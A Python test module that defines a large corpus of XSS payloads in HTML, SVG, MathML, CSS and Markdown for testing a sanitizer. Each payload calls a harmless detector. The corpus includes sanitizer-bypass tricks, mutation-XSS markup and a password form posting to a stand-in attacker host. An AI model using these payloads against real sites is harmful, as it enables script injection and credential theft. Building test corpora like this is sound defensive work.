"""A corpus of hostile HTML, Markdown and SVG payloads, each of which calls a detector if it ever runs.

A payload is a template: `$JS` becomes a call of the page's detector, `top.__xss(ID)`, and `$ID` the
payload's own number, so a hit names the payload that ran. Some call `alert`/`confirm`/`prompt`/`print`
instead: the browser test overrides those too (and counts dialogs, pop-ups and navigations away).

Every payload is at most TITLE_MAX characters, so one fits a title or a name as well as a lesson.
"""
from __future__ import annotations

from dataclasses import dataclass

FIRST_ID = 1000  # ids far from the 1s and 0s that real pages might pass to alert()
TITLE_MAX = 240
MARKER = "__xss"  # every detector call has it; so does every URL or handler the DOM audit looks for

_RAW: list[tuple[str, str]] = [
    # script tags, in all their spellings
    ("script", "<script>$JS</script>"),
    ("script-upper", "<SCRIPT>$JS</SCRIPT>"),
    ("script-mixed", "<ScRiPt>$JS</sCrIpT>"),
    ("script-type", '<script type="text/javascript">$JS</script>'),
    ("script-module", '<script type="module">$JS</script>'),
    ("script-attr-space", "<script\t\n>$JS</script\n>"),
    ("script-slash", "<script/x>$JS</script>"),
    ("script-unclosed", "<script>$JS"),
    ("script-src-data", '<script src="data:text/javascript,$JS"></script>'),
    ("script-split", "<scr<script>x</script>ipt>$JS</scr<script>x</script>ipt>"),
    ("script-nested-lt", "<<script>$JS//<</script>"),
    ("script-in-comment-end", "<!--><script>$JS</script>-->"),
    ("script-after-bad-comment", "<!-- --!><script>$JS</script>"),
    ("script-cdata", "<![CDATA[<]]>script>$JS<![CDATA[<]]>/script>"),
    ("script-entity-lt", "&lt;script&gt;$JS&lt;/script&gt;"),
    ("script-null", "<scr\x00ipt>$JS</scr\x00ipt>"),
    ("script-xhtml", '<script xmlns="http://www.w3.org/1999/xhtml">$JS</script>'),
    ("script-in-table", "<table><script>$JS</script></table>"),
    ("script-in-select", "<select><option><script>$JS</script></option></select>"),
    ("script-after-p", "<p>a<script>$JS</script>b</p>"),
    # event handlers on many elements
    ("img-onerror", "<img src=x onerror=$JS>"),
    ("img-onerror-quoted", '<img src="x" onerror="$JS">'),
    ("img-onerror-upper", "<IMG SRC=x ONERROR=$JS>"),
    ("img-onerror-slash", "<img/src=x/onerror=$JS>"),
    ("img-onerror-newline", "<img src=x\nonerror\n=\n$JS>"),
    ("img-onerror-backtick", "<img src=x onerror=`$JS`>"),
    ("img-onerror-entity", "<img src=x onerror=&#x5f;&#x5f;xss($ID)>"),
    ("img-onload", '<img src="/static/favicon.ico" onload="$JS">'),
    ("img-src-empty", "<img src onerror=$JS>"),
    ("body-onload", "<body onload=$JS>"),
    ("svg-onload", "<svg onload=$JS>"),
    ("svg-onload-slash", "<svg/onload=$JS>"),
    ("div-onmouseover", '<div onmouseover="$JS" style="width:100%;height:200px">x</div>'),
    ("p-onclick", '<p onclick="$JS">x</p>'),
    ("a-onfocus-autofocus", '<a href="#" onfocus="$JS" autofocus>x</a>'),
    ("input-autofocus", "<input autofocus onfocus=$JS>"),
    ("details-ontoggle", "<details open ontoggle=$JS>x</details>"),
    ("video-onerror", "<video src=x onerror=$JS></video>"),
    ("video-source-onerror", "<video><source onerror=$JS></video>"),
    ("audio-onerror", "<audio src=x onerror=$JS>"),
    ("iframe-onload", "<iframe onload=$JS></iframe>"),
    ("marquee-onstart", "<marquee onstart=$JS>x</marquee>"),
    ("textarea-autofocus", "<textarea autofocus onfocus=$JS></textarea>"),
    ("select-autofocus", "<select autofocus onfocus=$JS></select>"),
    ("keygen-autofocus", "<keygen autofocus onfocus=$JS>"),
    ("button-onfocus", "<button autofocus onfocus=$JS>x</button>"),
    ("style-onload", "<style onload=$JS></style>"),
    ("object-onerror", "<object data=x onerror=$JS></object>"),
    ("table-background", "<table background=\"javascript:$JS\"><tr><td>x</td></tr></table>"),
    ("td-onpointerenter", '<table><tr><td onpointerenter="$JS">x</td></tr></table>'),
    ("span-onanimationstart",
     '<style>@keyframes k{}</style><span style="animation-name:k" onanimationstart="$JS">x</span>'),
    ("li-ontransitionend", '<ul><li ontransitionend="$JS" style="transition:color 1s">x</li></ul>'),
    ("form-onsubmit", '<form onsubmit="$JS"><input type=submit></form>'),
    ("html-onerror-noquote", "<x onerror=$JS src=y>"),
    ("custom-tag", "<x-widget onclick=$JS>x</x-widget>"),
    ("image-tag", "<image src=x onerror=$JS>"),
    ("onerror-doubled", '<img src=x onerror="" onerror="$JS">'),
    ("attr-no-space", '<img src="x"onerror="$JS">'),
    # javascript:, data:, vbscript: URLs with entity, whitespace and case tricks
    ("a-js", '<a href="javascript:$JS">x</a>'),
    ("a-js-upper", '<a href="JAVASCRIPT:$JS">x</a>'),
    ("a-js-mixed", '<a href="JaVaScRiPt:$JS">x</a>'),
    ("a-js-leading-space", '<a href="  javascript:$JS">x</a>'),
    ("a-js-tab", '<a href="java\tscript:$JS">x</a>'),
    ("a-js-newline", '<a href="java\nscript:$JS">x</a>'),
    ("a-js-entity-tab", '<a href="java&#x09;script:$JS">x</a>'),
    ("a-js-entity-newline", '<a href="java&#10;script:$JS">x</a>'),
    ("a-js-decimal", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:$JS">x</a>'),
    ("a-js-hex", '<a href="&#x6A;avascript&#x3A;$JS">x</a>'),
    ("a-js-padded", '<a href="&#0000106avascript:$JS">x</a>'),
    ("a-js-named-colon", '<a href="javascript&colon;$JS">x</a>'),
    ("a-js-control", '<a href="\x01javascript:$JS">x</a>'),
    ("a-js-unquoted", "<a href=javascript:$JS>x</a>"),
    ("a-js-percent", '<a href="javascript:%5f%5fxss($ID)">x</a>'),
    ("a-vbscript", '<a href="vbscript:msgbox($ID)">x</a>'),
    ("a-data-html", '<a href="data:text/html,<script>$JS</script>">x</a>'),
    ("a-data-base64", '<a href="data:text/html;base64,PHNjcmlwdD5fX3hzcyg5KTwvc2NyaXB0Pg==">x</a>'),
    ("a-xlink", '<a xlink:href="javascript:$JS">x</a>'),
    ("img-js-src", '<img src="javascript:$JS">'),
    ("img-data-svg", '<img src="data:image/svg+xml,<svg onload=$JS>">'),
    ("img-srcset", '<img srcset="javascript:$JS 1x">'),
    ("iframe-js", '<iframe src="javascript:$JS"></iframe>'),
    ("iframe-data", '<iframe src="data:text/html,<script>$JS</script>"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>$JS</script>"></iframe>'),
    ("iframe-srcdoc-entity", '<iframe srcdoc="&lt;img src=x onerror=$JS&gt;"></iframe>'),
    ("frameset", "<frameset><frame src=\"javascript:$JS\"></frameset>"),
    ("object-data", '<object data="javascript:$JS"></object>'),
    ("object-data-html", '<object data="data:text/html,<script>$JS</script>"></object>'),
    ("embed-src", '<embed src="javascript:$JS">'),
    ("embed-data-svg", '<embed src="data:image/svg+xml,<svg onload=$JS>">'),
    ("form-action", '<form action="javascript:$JS"><button>Nộp</button></form>'),
    ("button-formaction", '<form><button formaction="javascript:$JS">Gửi</button></form>'),
    ("input-formaction", '<form><input type=submit formaction="javascript:$JS"></form>'),
    ("form-hijack", '<form action="https://attacker.invalid/$ID" method=post><input name=password></form>'),
    ("isindex", '<isindex action="javascript:$JS" type=submit>'),
    ("area-href", '<map name=m$ID><area href="javascript:$JS" shape=default></map>'),
    ("math-href", '<math href="javascript:$JS">x</math>'),
    ("meta-refresh-js", '<meta http-equiv="refresh" content="0;url=javascript:$JS">'),
    ("meta-refresh-away", '<meta http-equiv="refresh" content="0;url=/nav-away-$ID">'),
    ("meta-refresh-data", '<meta http-equiv="refresh" content="0;url=data:text/html,<script>$JS</script>">'),
    ("base-href", '<base href="javascript:$JS//">'),
    ("base-href-host", '<base href="https://attacker.invalid/$ID/">'),
    ("link-import", '<link rel="import" href="data:text/html,<script>$JS</script>">'),
    ("link-stylesheet", '<link rel=stylesheet href="javascript:$JS">'),
    ("link-preload", '<link rel=preload as=script href="data:,$JS" onload="$JS">'),
    # SVG
    ("svg-script", "<svg><script>$JS</script></svg>"),
    ("svg-script-href", '<svg><script href="data:text/javascript,$JS"></script></svg>'),
    ("svg-script-cdata", "<svg><script><![CDATA[$JS]]></script></svg>"),
    ("svg-script-entity", "<svg><script>&#x5f;&#x5f;xss&#x28;$ID&#x29;</script></svg>"),
    ("svg-a-xlink", '<svg><a xlink:href="javascript:$JS"><text x=0 y=20>x</text></a></svg>'),
    ("svg-a-href", '<svg><a href="javascript:$JS"><rect width=99 height=99 /></a></svg>'),
    ("svg-animate-href",
     '<svg><a><animate attributeName=href values="javascript:$JS" /><text y=20>x</text></a></svg>'),
    ("svg-set-href", '<svg><a><set attributeName=href to="javascript:$JS" /><text y=20>x</text></a></svg>'),
    ("svg-animate-onbegin", "<svg><animate onbegin=$JS attributeName=x dur=1s>"),
    ("svg-set-onbegin", "<svg><set onbegin=$JS attributeName=x to=1>"),
    ("svg-animate-onend", "<svg><animate onend=$JS attributeName=x dur=0.01s>"),
    ("svg-use-data",
     '<svg><use href="data:image/svg+xml,<svg id=\'x\' xmlns=\'http://www.w3.org/2000/svg\'>'
     '<image href=\'x\' onerror=\'$JS\'/></svg>#x"/></svg>'),
    ("svg-use-xlink", '<svg><use xlink:href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x" onload=$JS /></svg>'),
    ("svg-foreignobject",
     "<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;top.__xss($ID)&lt;/script&gt;\"></iframe>"
     "</foreignObject></svg>"),
    ("svg-foreignobject-img", "<svg><foreignObject><img src=x onerror=$JS></foreignObject></svg>"),
    ("svg-image-onerror", "<svg><image href=x onerror=$JS /></svg>"),
    ("svg-handler-upper", "<SVG ONLOAD=$JS>"),
    ("svg-desc-breakout", "<svg><desc><img src=x onerror=$JS></desc></svg>"),
    ("svg-title-breakout", "<svg><title><img src=x onerror=$JS></title></svg>"),
    ("svg-style-breakout", "<svg><style><img src=x onerror=$JS></style></svg>"),
    ("svg-p-breakout", "<svg><p><style><img src=x onerror=$JS></style></p></svg>"),
    ("svg-feimage", '<svg><filter><feImage href="javascript:$JS"/></filter></svg>'),
    ("svg-handler-event-attr", "<svg><rect width=9 height=9 onmouseover=$JS onfocusin=$JS tabindex=1 /></svg>"),
    ("svg-discard", "<svg><discard onbegin=$JS /></svg>"),
    ("svg-in-p", '<p><svg width=1 height=1><script>$JS</script></svg></p>'),
    # MathML
    ("math-maction", '<math><maction actiontype="statusline" xlink:href="javascript:$JS">x</maction></math>'),
    ("math-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=$JS>"),
    ("math-mi-href", '<math><mi xlink:href="javascript:$JS">x</mi></math>'),
    ("math-annotation",
     '<math><annotation-xml encoding="text/html"><img src=x onerror=$JS></annotation-xml></math>'),
    ("math-mtext-img", "<math><mtext><img src=x onerror=$JS></mtext></math>"),
    ("math-style-breakout", "<math><style><img src=x onerror=$JS></style></math>"),
    # breakouts of raw-text and escapable elements
    ("template", "<template><img src=x onerror=$JS></template>"),
    ("template-shadow", '<div><template shadowrootmode="open"><img src=x onerror=$JS></template></div>'),
    ("noscript-breakout", '<noscript><p title="</noscript><img src=x onerror=$JS>"></noscript>'),
    ("style-breakout", "<style></style><img src=x onerror=$JS></style>"),
    ("style-title-breakout", '<style><p title="</style><img src=x onerror=$JS>"></style>'),
    ("textarea-breakout", "<textarea></textarea><img src=x onerror=$JS></textarea>"),
    ("textarea-title-breakout", '<textarea><p title="</textarea><img src=x onerror=$JS>"></textarea>'),
    ("title-breakout", "<title></title><img src=x onerror=$JS></title>"),
    ("title-attr-breakout", '<title><p title="</title><img src=x onerror=$JS>"></title>'),
    ("xmp-breakout", '<xmp><p title="</xmp><img src=x onerror=$JS>"></xmp>'),
    ("iframe-text-breakout", '<iframe><p title="</iframe><img src=x onerror=$JS>"></iframe>'),
    ("noembed-breakout", '<noembed><p title="</noembed><img src=x onerror=$JS>"></noembed>'),
    ("noframes-breakout", '<noframes><p title="</noframes><img src=x onerror=$JS>"></noframes>'),
    ("plaintext", "<plaintext><img src=x onerror=$JS>"),
    ("select-breakout", "<select><style><img src=x onerror=$JS></style></select>"),
    # comment and CDATA tricks
    ("comment-img", "<!--<img src=x onerror=$JS>-->"),
    ("comment-bang-close", "<!-- x --!><img src=x onerror=$JS>"),
    ("comment-short-close", "<!--><img src=x onerror=$JS>-->"),
    ("comment-dash-close", "<!---><img src=x onerror=$JS>-->"),
    ("comment-in-attr", '<p title="<!--"><img src=x onerror=$JS>--></p>'),
    ("comment-conditional", "<!--[if gte IE 4]><script>$JS</script><![endif]-->"),
    ("bogus-comment", "<?xml-stylesheet x?><img src=x onerror=$JS>"),
    ("bogus-comment-slash", "</x=<img src=x onerror=$JS>>"),
    ("cdata-html", "<![CDATA[><img src=x onerror=$JS>]]>"),
    ("cdata-in-svg", "<svg><![CDATA[><image href=x onerror=$JS>]]></svg>"),
    ("doctype", "<!DOCTYPE html><img src=x onerror=$JS>"),
    # attribute quote breakouts (for templates that put text in an attribute)
    ("quote-double", '" onmouseover="$JS" autofocus onfocus="$JS" x="'),
    ("quote-single", "' onmouseover='$JS' autofocus onfocus='$JS' x='"),
    ("quote-backtick", "` onfocus=`$JS` autofocus x=`"),
    ("quote-tag-close", '"><img src=x onerror=$JS>'),
    ("quote-single-tag-close", "'><img src=x onerror=$JS>"),
    ("quote-textarea-close", "</textarea><img src=x onerror=$JS>"),
    ("quote-title-close", "</title><img src=x onerror=$JS>"),
    ("quote-script-close", "</script><img src=x onerror=$JS>"),
    ("quote-style-close", "</style><img src=x onerror=$JS>"),
    ("quote-option-close", "</option></select><img src=x onerror=$JS>"),
    ("js-string-break", "';$JS;//"),
    ("js-string-break-double", '";$JS;//'),
    ("js-template-break", "${$JS}"),
    ("json-script-break", "</script><script>$JS</script>"),
    ("jinja-expr", "{{ config.__class__ }}{{ '<img src=x onerror=$JS>' }}"),
    # CSS
    ("css-expression", '<p style="color:expression($JS)">x</p>'),
    ("css-url-js", '<div style="background:url(javascript:$JS)">x</div>'),
    ("css-url-js-quoted", "<div style=\"background-image:url('javascript:$JS')\">x</div>"),
    ("css-escape", '<p style="color:\\65xpression($JS)">x</p>'),
    ("css-comment-split", '<p style="color:ex/**/pression($JS)">x</p>'),
    ("css-behavior", '<p style="behavior:url(data:,$JS)">x</p>'),
    ("css-binding", '<p style="-moz-binding:url(data:,$JS)">x</p>'),
    ("css-import", "<style>@import 'javascript:$JS';</style>"),
    ("css-overlay", '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999" '
                    'onclick="$JS">x</div>'),
    ("css-style-quote-break", '<p style="color:red" "onmouseover=$JS">x</p>'),
    ("css-in-span-colour", '<span style="color:red;background:url(\'javascript:$JS\')">x</span>'),
    # mutation XSS: markup that changes meaning when parsed, serialised and parsed again
    ("mxss-noscript", '<noscript><img src=x title="</noscript><img src=x onerror=$JS>"></noscript>'),
    ("mxss-svg-style", "<svg></p><style><a id=\"</style><img src=x onerror=$JS>\">"),
    ("mxss-math-mtext", '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;'
                        '&lt;img&Tab;src=x&Tab;onerror=$JS&gt;">'),
    ("mxss-form-nesting", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=$JS>"),
    ("mxss-table-a", '<table><a href="#"><td><img src=x onerror=$JS></td></a></table>'),
    ("mxss-p-in-svg", "<svg><p><img src=x onerror=$JS></p></svg>"),
    ("mxss-backtick-attr", '<p title="`"><img src=x onerror=$JS>`">x</p>'),
    ("mxss-double-encoding", "&amp;lt;img src=x onerror=$JS&amp;gt;"),
    ("mxss-namespaced", '<svg><foreignobject><div><style><!--</style><img src=x onerror=$JS>--></style></div>'),
    ("mxss-listing", '<listing>&lt;img src=x onerror=$JS&gt;</listing>'),
    ("mxss-unclosed-attr", '<a title="a<img src=x onerror=$JS>'),
    ("mxss-entity-in-tag", "<img src=x onerror&#61;$JS>"),
    # Markdown: links, images, autolinks, references and HTML inside Markdown
    ("md-link-js", "[klik](javascript:$JS)"),
    ("md-link-js-upper", "[klik](JAVASCRIPT:$JS)"),
    ("md-link-js-entity", "[klik](&#106;avascript:$JS)"),
    ("md-link-js-angle", "[klik](<javascript:$JS>)"),
    ("md-link-js-space", "[klik]( javascript:$JS )"),
    ("md-link-data", "[klik](data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==)"),
    ("md-link-vbscript", "[klik](vbscript:msgbox($ID))"),
    ("md-link-title-break", '[klik](https://example.invalid "a\\" onmouseover=\\"$JS")'),
    ("md-link-title-quote", '[klik](https://example.invalid "a" onmouseover="$JS")'),
    ("md-image-js", "![ảnh](javascript:$JS)"),
    ("md-image-onerror", '![ảnh" onerror="$JS](x)'),
    ("md-image-alt-break", '![x" onerror="$JS" y="](x)'),
    ("md-image-title", '![ảnh](x "t\\" onerror=\\"$JS")'),
    ("md-autolink-js", "<javascript:$JS>"),
    ("md-autolink-data", "<data:text/html,%3Cscript%3E$JS%3C/script%3E>"),
    ("md-autolink-mail", "<x@x.vn\" onmouseover=\"$JS>"),
    ("md-reference", "[klik][r$ID]\n\n[r$ID]: javascript:$JS"),
    ("md-reference-title", "[klik][t$ID]\n\n[t$ID]: https://example.invalid 'x\" onfocus=\"$JS'"),
    ("md-reference-image", "![ảnh][i$ID]\n\n[i$ID]: javascript:$JS"),
    ("md-html-block", "<div>\n<script>$JS</script>\n</div>"),
    ("md-html-inline", "Chữ **đậm** <img src=x onerror=$JS> tiếp"),
    ("md-code-break", "`</code><img src=x onerror=$JS>`"),
    ("md-fence-break", "```html\n</code></pre><img src=x onerror=$JS>\n```"),
    ("md-fence-lang", "```\"><img src=x onerror=$JS>\nx\n```"),
    ("md-table-cell", "| a |\n|---|\n| <img src=x onerror=$JS> |"),
    ("md-table-align", "| a |\n|:--\" onmouseover=\"$JS|\n| b |"),
    ("md-heading-html", "# <svg onload=$JS>"),
    ("md-blockquote-html", "> <iframe srcdoc=\"<script>$JS</script>\"></iframe>"),
    ("md-list-html", "- <a href=\"javascript:$JS\">x</a>"),
    ("md-emphasis-in-attr", '<a title="*x*" href="javascript:$JS">y</a>'),
    ("md-escaped-bracket", "\\[x\\](javascript:$JS) [y](javascript:$JS)"),
    ("md-nested-link", "[[x](javascript:$JS)](https://example.invalid)"),
    ("md-link-in-html", "<p>[x](javascript:$JS)</p>"),
    ("md-markdown-attr", '<div markdown="1">[x](javascript:$JS)</div>'),
    ("md-setext-html", "<img src=x onerror=$JS>\n===="),
    ("md-entity-js", "[x](java&#115;cript:$JS)"),
    ("md-newline-js", "[x](java\nscript:$JS)"),
    # print(), dialogs and other detectors
    ("alert", "<img src=x onerror=alert($ID)>"),
    ("confirm", "<svg onload=confirm($ID)>"),
    ("prompt", '<a href="javascript:prompt($ID)">x</a>'),
    ("print", "<img src=x onerror=print()>"),
    ("window-open", "<img src=x onerror=open('/popup-$ID')>"),
    ("location", "<img src=x onerror=location='/nav-away-$ID'>"),
    ("eval-atob", "<img src=x onerror=eval(atob('X194c3MoMSk='))>"),
    ("settimeout-string", "<img src=x onerror=setTimeout('$JS')>"),
    ("constructor", "<img src=x onerror=[].constructor.constructor('$JS')()>"),
    ("import-js", '<img src=x onerror=import("data:text/javascript,$JS")>'),
]


@dataclass(frozen=True)
class Payload:
    id: int
    name: str
    text: str

    def call(self) -> str:
        return f"top.{MARKER}({self.id})"


def _expand(number: int, template: str) -> str:
    return template.replace("$JS", f"top.{MARKER}({number})").replace("$ID", str(number))


PAYLOADS: tuple[Payload, ...] = tuple(
    Payload(FIRST_ID + index, name, _expand(FIRST_ID + index, template)) for index, (name, template) in enumerate(_RAW))


def by_id(number: int) -> Payload:
    return PAYLOADS[number - FIRST_ID]


def by_name(name: str) -> Payload:
    return next(payload for payload in PAYLOADS if payload.name == name)


def printable(text: str) -> str:
    """A payload for a format that cannot carry control characters (XML 1.0, XLSX): without them."""
    return "".join(ch for ch in text if ch >= " " or ch in "\t\n\r")


def one_line(text: str) -> str:
    """A payload for a field that takes one line (Aiken, names in a list): its line breaks as spaces."""
    return " ".join(printable(text).split("\n"))
